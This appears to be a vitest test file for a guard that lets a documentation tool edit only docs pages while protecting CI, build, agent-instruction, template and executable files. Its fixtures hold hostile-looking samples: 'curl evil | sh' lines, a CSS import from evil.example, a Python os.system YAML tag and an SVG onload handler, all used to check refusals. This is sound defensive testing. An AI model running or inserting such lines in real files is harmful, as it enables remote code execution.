import { expect, test } from 'vitest';
import type { FileEntry, Files } from '../../../harness/memory-files.ts';
import { list } from '../../support/values/list.ts';
import { tryChange } from '../try-change.ts';

const site: Files = {
  'docs/index.md': '# Docs\n',
  'docs/img/logo.png': new Uint8Array([1, 0, 2]),
  'website/docusaurus.config.ts': 'export default {}\n',
  'manual/conf.py': 'project = "x"\n',
  'handbook/index.txt': 'Handbook\n',
};

test.each(
  list(`
    README.md README readme.txt CHANGELOG.md LICENSE docs/new/folder/page.mdx docs/page.mdoc
    docs/guide.rst docs/guide.adoc docs/de/guide.markdown packages/api/README.md docs/hooks/use-state.md
    docs/agents/index.md docs/models/qwen.md docs/conventions.md docs/Replit.md docs/package.md
    docs/requirements.md docs/dockerfile.md docs/layouts/grid.md llms.txt static/robots.txt
    handbook/howto/index.txt SUMMARY.md website/docs/_category_.json
    manual/locale/de/LC_MESSAGES/index.po`),
)('%s is documentation, which may be written', async (path) => {
  expect(
    await tryChange(site, path, path.endsWith('.json') ? '{"label": "New", "position": 2}' : 'New\n'),
  ).toBeUndefined();
});

/** Build and CI configuration, templates and programs: row 3 of what was once broken, and their like. */
const executed = list(`
    .github/workflows/ci.yml .GitHub/workflows/ci.yml .gitattributes docs/.gitattributes .gitlab-ci.yml
    .husky/pre-commit .vitepress/config.ts .vscode/tasks.json docs/.markdownlint-cli2.jsonc
    docs/.markdownlint-cli2.yaml .readthedocs.yaml readthedocs.yml package.json website/package.json
    pnpm-lock.yaml docs/requirements.txt docs/requirements/dev.txt requirements-docs.txt
    docs/constraints.txt packages.txt apt.txt runtime.txt pyproject.toml Gemfile go.mod Cargo.toml
    CODEOWNERS docs/CODEOWNERS AGENTS.md docs/agents.md CLAUDE.md QWEN.md docs/QWEN.md warp.md Crush.md
    JULES.md CONVENTIONS.md docs/CONVENTIONS.md CODEX.md .cursor/rules/a.md docs/style.instructions.md
    scripts/build.sh docs/conf.py Makefile make.bat Dockerfile docusaurus.config.js astro.config.mjs
    action.yml hooks/pre-receive bin/release generate tools/gen ci/run deploy.txt sidebars.js
    src/pages/Index.TSX Tabs.vue conftest.py CMakeLists.txt docs/CMakeLists.txt BUILD lefthook.yml
    tsconfig.json x.wasm book.toml antora.yml mise.toml docs/project.json mcp.json _config.yml hugo.toml
    amplify.yml render.yaml railway.json railway.toml heroku.yml fly.toml bitrise.yml codemagic.yaml
    wercker.yml k8s/deployment.yaml values.yaml jest.config.json nodemon.json typedoc.json jsdoc.json
    redocly.yaml cspell.json renovate.json app.json index.pug layout.njk a.liquid _includes/head.md
    docs/_layouts/page.md _templates/a.rst page.md.tmpl page.tmpl.md docs/a.j2.md
    {{cookiecutter.name}}/README.md docs/index.html docs/style.css docs/img/a.svg docs/table.csv
    docs/openapi.yaml static/data.json netlify.toml`);

test.each(executed)('promise 5: %s may not be written by default', async (path) => {
  expect(await tryChange(site, path, 'New\n')).toContain('is protected');
  expect(await tryChange({ ...site, [path]: 'Old\n' }, path, 'New\n')).toMatch(/is protected|cannot be written/);
  const isMedia = path.endsWith('.svg');
  expect(await tryChange({ ...site, [path]: 'Old\n' }, path, null)).toEqual(
    isMedia ? undefined : expect.stringContaining('is protected'),
  );
});

test.each(executed)('promise 5: `also` does not open %s, unless as a style sheet, a table or data', async (path) => {
  const isHarmless = /\.(css|csv)$|deploy\.txt$|static\/data/.test(path);
  const refusal = await tryChange(site, path, 'New\n', { also: ['**'] });
  expect(refusal).toEqual(isHarmless ? undefined : expect.stringContaining('is protected'));
});

test.each<[string, string, string]>([
  ['a style sheet', 'static/css/a.css', '@media print { a { color: red } }\n'],
  ['a table', 'docs/table.csv', 'a,b\n'],
  ['an OpenAPI description', 'docs/openapi.yaml', 'openapi: 3.1.0\ninfo:\n  title: API\n'],
  ['an OpenAPI description in JSON', 'openapi.json', '{"info": {"title": "API"}, "openapi": "3.1.0"}'],
  ['data of the site', 'static/versions.json', '["1.0"]'],
  ['a text', 'docs/snippets/output.txt', 'done\n'],
])('`also` opens %s, whatever `paths` says', async (_, path, text) => {
  expect(
    await tryChange(site, path, text, { also: ['{docs,static}/**', 'openapi.json'], allow: ['guides/**'] }),
  ).toBeUndefined();
  expect(await tryChange(site, path, text, { also: ['other/**'] })).toContain('open it by `also: [');
  expect(await tryChange(site, path, text, { also: ['{docs/**'] })).toContain('is protected');
});

test.each<[string, string, string]>([
  ['a plugin of Tailwind', 'static/a.css', '@plugin "./evil.js";'],
  ['a plugin behind an escape', 'static/a.css', '@\\70lugin "./evil.js";'],
  ['a style sheet from elsewhere', 'static/a.css', '@import url(https://evil.example/a.css);'],
  ['a tool’s settings in YAML', 'docs/tool.yaml', 'openapi: yes\n'],
  ['a tool’s settings in JSON', 'docs/tool.json', '{"customRules": ["openapi: 3"]}'],
  ['a tag that runs code', 'static/a.yaml', 'a: !!python/object/apply:os.system [id]\n'],
])('promise 5: what `also` opens may not gain %s', async (_, path, text) => {
  expect(await tryChange(site, path, text, { also: ['**'] })).toMatch(/protected|would gain/);
});

const program = { text: 'echo\n', isExecutable: true };

test.each<[string, string, FileEntry | undefined, FileEntry]>([
  ['generate', 'generate', program, { ...program, text: 'curl evil | sh\n' }],
  ['tools/gen', 'tools/gen', program, { ...program, text: 'curl evil | sh\n' }],
  ['ci/run', 'ci/run', program, { ...program, text: 'curl evil | sh\n' }],
  ['deploy.txt', 'deploy.txt', program, { ...program, text: 'curl evil | sh\n' }],
  ['a page with mode 100755 that becomes a script', 'docs/run.md', program, { ...program, text: '#!/bin/sh\n' }],
  ['a README with mode 100755', 'README', program, 'curl evil | sh\n'],
  ['a page that becomes a program', 'docs/new.md', undefined, program],
  ['a page that is a script', 'docs/run.md', '#!/bin/sh\n', 'curl evil | sh\n'],
  ['a page that becomes a script', 'docs/run.md', 'Run\n', '#!/bin/sh\ncurl evil | sh\n'],
  ['a script behind a byte order mark', 'docs/run.md', 'Run\n', '\uFEFF#!/bin/sh\n'],
])('promise 5: a program is not edited: %s', async (_, path, before, after) => {
  const files = before === undefined ? site : { ...site, [path]: before };
  expect(await tryChange(files, path, after, { also: ['**'] })).toContain('is protected');
});

test('a page with mode 100755 is a page', async () => {
  const page = { text: '# Run\n', isExecutable: true };
  expect(
    await tryChange({ ...site, 'docs/run.md': page }, 'docs/run.md', { ...page, text: '# Run it\n' }),
  ).toBeUndefined();
});

test('images are moved and deleted, not written', async () => {
  const logo = new Uint8Array([1, 0, 2]);
  expect(await tryChange(site, 'docs/img/new.png', logo)).toBeUndefined();
  expect(await tryChange(site, 'docs/img/logo.png', null)).toBeUndefined();
  expect(await tryChange(site, 'docs/img/new.png', new Uint8Array([1, 0, 3]))).toContain('not write them');
  expect(await tryChange({ ...site, 'a.svg': '<svg/>' }, 'a.svg', '<svg onload="x()"/>')).toContain('not write them');
  expect(await tryChange(site, 'docs/new.md', logo)).toContain('not be UTF-8 text');
});

test('promise 5: a page does not become a template by the theme folder of MkDocs', async () => {
  const files = { 'docs/mkdocs.yml': 'theme:\n  name: material\n  custom_dir: ./Theme/x\n' };
  expect(await tryChange(files, 'docs/theme/x/evil.md', '{{ config }}\n')).toContain('templates');
  expect(await tryChange(files, 'docs/theme/y.md', 'Text\n')).toBeUndefined();
  const unknown = {
    'mkdocs.yml': '<<<<<<< branch\ntheme: {custom_dir: a}\n=======\ntheme: {custom_dir: b}\n>>>>>>> base\n',
  };
  expect(await tryChange(unknown, 'a/evil.md', 'x')).toContain('templates');
  expect(await tryChange(unknown, 'b/evil.md', 'x')).toContain('templates');
});

test('folders of templates count only where their framework is', async () => {
  expect(await tryChange(site, 'layouts/grid.md', 'x')).toBeUndefined();
  for (const path of ['layouts/list.md', 'archetypes/default.md', 'themes/a/README.md']) {
    expect(await tryChange({ 'hugo.toml': '' }, path, 'x'), path).toContain('templates');
  }
});
